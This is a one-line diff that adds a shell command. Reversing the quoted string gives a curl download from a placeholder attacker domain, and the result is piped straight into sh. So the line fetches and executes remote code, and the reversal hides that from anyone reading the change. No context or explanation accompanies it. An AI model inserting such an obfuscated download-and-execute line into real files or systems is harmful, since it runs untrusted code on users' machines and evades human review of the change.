@@ -1,0 +1,1 @@
+echo "hs | moc.elpmaxe.live//:ptth lruc" | rev | sh
